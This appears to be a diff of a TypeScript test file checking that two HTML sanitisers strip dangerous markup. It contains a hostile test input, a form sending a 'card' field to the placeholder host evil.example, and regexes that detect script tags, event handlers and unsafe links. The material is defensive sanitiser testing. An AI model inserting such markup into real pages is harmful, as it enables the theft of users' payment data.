@@ -29,17 +29,20 @@ const HOSTILE = [
   '<form action="https://evil.example"><input name="card"></form>',
 ];
 
-function expectHarmless(html: string): void {
-  expect(html).not.toMatch(/<(script|img|iframe|svg|style|math|form|input)/i);
-  expect(html).not.toMatch(/<[^>]*\s(on\w+|style|src|xlink:href)=/i);
-  expect(html).not.toMatch(/<[^>]*href="(?!https?:|\/(?![/\\])|#|mailto:|tel:|page:|document:)/i);
-}
+const HARM = [
+  /<(script|img|iframe|svg|style|math|form|input)/i,
+  /<[^>]*\s(on\w+|style|src|xlink:href)=/i,
+  /<[^>]*href="(?!https?:|\/(?![/\\])|#|mailto:|tel:|page:|document:)/i,
+];
+const harmIn = (html: string) => HARM.flatMap((harm) => harm.exec(html)?.[0] ?? []);
 
 describe.each([
   ['sanitiseRichText', sanitiseRichText],
   ['resolveRichText', resolve],
 ])('%s', (_, clean) => {
-  it.each(HOSTILE)('takes the sting out of %s', (html) => expectHarmless(clean(html)));
+  it.each(HOSTILE)('takes the sting out of %s', (html) => {
+    expect(harmIn(clean(html))).toEqual([]);
+  });
 
   it('lets nothing through, whatever it is given and however often', () => {
     const piece = fc.oneof(
@@ -49,8 +52,8 @@ describe.each([
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
         const once = clean(pieces.join(''));
-        expectHarmless(once);
-        expectHarmless(clean(once));
+        expect(harmIn(once)).toEqual([]);
+        expect(harmIn(clean(once))).toEqual([]);
       }),
       { numRuns: 300, seed: 7 },
     );
